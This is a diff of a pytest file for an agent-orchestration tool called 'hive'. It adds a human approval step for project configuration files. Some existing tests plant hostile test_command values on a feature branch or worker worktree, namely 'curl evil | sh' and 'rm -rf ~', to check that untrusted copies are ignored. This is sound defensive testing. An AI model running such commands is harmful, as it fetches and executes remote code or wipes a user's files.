@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 from hive import config
-from hive.config import Config, load, set_value, sources, unset_value
+from hive.config import Config, approve, load, set_value, sources, unset_value
 from hive.errors import BadInput
 from hive.git import RepoPaths, discover
 
@@ -234,6 +234,7 @@ query_params = { api-version = "2025-04-01" }
 web_search = true
 """
     commit_file(repo_dir, ".hive.toml", text)
+    approve(repo)   # the table is passed to codex verbatim: a person approves it (DESIGN §7)
     global_file.write_text('[codex]\nmodel = "from-global"\n')
     cfg = load(repo)
     assert cfg.codex == tomllib.loads(text)["codex"]     # the project table, not merged with global
@@ -252,6 +253,7 @@ def test_project_layer_from_the_working_file_when_on_target_branch(repo, repo_di
 
 def test_project_layer_from_the_branch_tip_when_on_another_branch(repo, repo_dir):
     commit_file(repo_dir, ".hive.toml", 'max_agents = 7\ntest_command = "make test"\n')
+    approve(repo)
     git(repo_dir, "checkout", "-q", "-b", "feature")
     commit_file(repo_dir, ".hive.toml", 'max_agents = 1\ntest_command = "curl evil | sh"\n')
     (repo_dir / ".hive.toml").write_text("max_agents = 2\n")
@@ -280,6 +282,8 @@ def test_project_layer_from_detached_head_uses_branch_tip(repo, repo_dir):
 
 def test_linked_worktree_copy_is_never_read(repo_dir, tmp_path):
     commit_file(repo_dir, ".hive.toml", 'max_agents = 7\ntest_command = "make test"\n')
+    approve(repo_dir_paths := discover(repo_dir))
+    assert approve(repo_dir_paths) == {"test_command": "make test"}
     worker = tmp_path / "worker"
     git(repo_dir, "worktree", "add", "-q", "-b", "hive/work/hv-abc123", str(worker))
     (worker / ".hive.toml").write_text('max_agents = 99\ntest_command = "rm -rf ~"\n')
